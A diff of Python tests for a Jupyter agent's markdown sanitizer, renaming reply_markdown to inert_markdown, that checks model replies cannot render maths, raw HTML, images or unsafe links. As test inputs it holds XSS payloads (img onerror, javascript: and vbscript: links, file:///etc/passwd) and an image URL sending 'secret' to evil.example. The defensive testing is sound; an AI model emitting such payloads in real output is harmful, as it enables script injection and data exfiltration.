@@ -26,7 +26,6 @@ from jupyter_agent.text import (
     inert_markdown,
     literal,
     plain_text,
-    reply_markdown,
     safe_url,
     summary_html,
 )
@@ -78,7 +77,7 @@ def test_dollars_show_as_typed_and_markdown_still_renders() -> None:
              "| plan | price |\n|---|---|\n| basic | $5 |\n| pro | $10 |\n\n"
              "- first $1\n- second $2\n\n```python\nprint('$5', '$10')\n```\n\n"
              "Use `df['$col']` and **bold $3**.")
-    source = reply_markdown(reply)
+    source = inert_markdown(reply)
     assert math_openers(source) == []
     assert mathjax_shows(rendered_text(source)) == rendered_text(reply)
     rendered = _MD.render(source)
@@ -99,16 +98,16 @@ def test_tex_triggers_show_as_typed() -> None:
                   "\\begin{align} a \\end{align}", "see \\ref{eq1}", "C:\\Users\\me",
                   "escaped \\$5 and \\\\$6", "entity &#36;5 and &dollar;6 and &#92;(",
                   "[a link](http://example.com/$1) costs $2", "@@0@@ and $ alone"]:
-        source = reply_markdown(reply)
+        source = inert_markdown(reply)
         assert math_openers(source) == [], reply
         assert mathjax_shows(rendered_text(source)) == rendered_text(as_typed(reply)), reply
-    assert mathjax_shows(rendered_text(reply_markdown("so \\(x\\) and \\[y\\]"))) \
+    assert mathjax_shows(rendered_text(inert_markdown("so \\(x\\) and \\[y\\]"))) \
         == "so \\(x\\) and \\[y\\]\n"
 
 
 def test_streaming_halves_are_safe_too() -> None:
     reply = "Costs: `$5` and $6\n\n```python\nx = '$7'\n"  # an unclosed fence while streaming
-    source = reply_markdown(reply)
+    source = inert_markdown(reply)
     assert math_openers(source) == [] and "x = '$7'" in source
 
 
@@ -120,7 +119,7 @@ _ALPHABET = st.sampled_from([*"$\\()[]{}`*_|#-+1.a &;x\n", "begin{", "ref{", "``
 @given(st.lists(_ALPHABET, max_size=40).map("".join))
 @example("$```\n\n```$```")  # backticks that open no code span must not hide a $
 def test_no_text_ever_becomes_maths(reply: str) -> None:
-    source = reply_markdown(reply)
+    source = inert_markdown(reply)
     assert math_openers(source) == []
     assert mathjax_shows(rendered_text(source)) == rendered_text(as_typed(reply))
 
@@ -181,29 +180,29 @@ def _rendered(source: str) -> tuple[str, list[str]]:
 
 def test_raw_html_from_the_model_shows_as_typed() -> None:
     for reply in HOSTILE:
-        for source in (reply_markdown(reply), inert_markdown(reply)):
+        for source in (inert_markdown(reply), inert_markdown(reply, maths=False)):
             page, kinds = _rendered(source)
             assert not {"html_block", "html_inline", "image"} & set(kinds), (reply, source)
             assert "<script" not in page and "<img" not in page and "<style" not in page
             assert "<iframe" not in page and "<svg" not in page and "<a href=\"java" not in page
-    shown = rendered_text(reply_markdown("hi <img src=x onerror=\"window.pwned=1\"> there"))
+    shown = rendered_text(inert_markdown("hi <img src=x onerror=\"window.pwned=1\"> there"))
     assert shown == "hi <img src=x onerror=\"window.pwned=1\"> there\n"  # as typed
-    code = _TRUSTING.render(reply_markdown("use `<b>` and\n\n```html\n<b>x</b>\n```"))
+    code = _TRUSTING.render(inert_markdown("use `<b>` and\n\n```html\n<b>x</b>\n```"))
     assert "<code>&lt;b&gt;</code>" in code and "&lt;b&gt;x&lt;/b&gt;" in code  # code as is
 
 
 def test_images_become_links_that_load_nothing() -> None:
-    page, kinds = _rendered(reply_markdown("see ![chart](https://evil.example/?d=secret) "
+    page, kinds = _rendered(inert_markdown("see ![chart](https://evil.example/?d=secret) "
                                            "and ![](https://evil.example/a.png)"))
     assert "image" not in kinds and "<img" not in page
     assert '<a href="https://evil.example/?d=secret">image: chart</a>' in page
     assert '<a href="https://evil.example/a.png">image: </a>' in page
-    page, kinds = _rendered(reply_markdown("![x][r]\n\n[r]: https://evil.example/r.png"))
+    page, kinds = _rendered(inert_markdown("![x][r]\n\n[r]: https://evil.example/r.png"))
     assert "image" not in kinds and '<a href="https://evil.example/r.png">image: x</a>' in page
 
 
 def test_links_keep_only_safe_schemes() -> None:
-    page, _ = _rendered(reply_markdown(
+    page, _ = _rendered(inert_markdown(
         "[a](https://example.com) [b](mailto:me@example.com) [c](notes/x.md) <https://e.com>"))
     for href in ("https://example.com", "mailto:me@example.com", "notes/x.md", "https://e.com"):
         assert f'href="{href}"' in page
@@ -213,7 +212,7 @@ def test_links_keep_only_safe_schemes() -> None:
                   "<javascript:alert(1)>", "[x][r]\n\n[r]: javascript:alert(1)",
                   "[x][r]\n\n[r]:\n  vbscript:msgbox", "[x](file:///etc/passwd 'x')",
                   "[x](javascript:alert(1)\n'title')"]:
-        page, kinds = _rendered(reply_markdown(reply))
+        page, kinds = _rendered(inert_markdown(reply))
         assert "link_open" not in kinds, (reply, page)
     assert not safe_url("&#x6A;avascript:x") and not safe_url(" \tjavascript:x")
     assert safe_url("https://x") and safe_url("#anchor") and safe_url("a/b:c")
@@ -235,7 +234,7 @@ def test_no_text_ever_renders_html_images_or_unsafe_links(reply: str) -> None:
 
 
 def test_exports_keep_maths_as_written() -> None:
-    assert inert_markdown("costs $5 and \\(x\\) <b>") == "costs $5 and \\(x\\) \\<b>"
+    assert inert_markdown("costs $5 and \\(x\\) <b>", maths=False) == "costs $5 and \\(x\\) \\<b>"
 
 
 def test_summary_html_shows_no_html_image_or_unsafe_link() -> None:
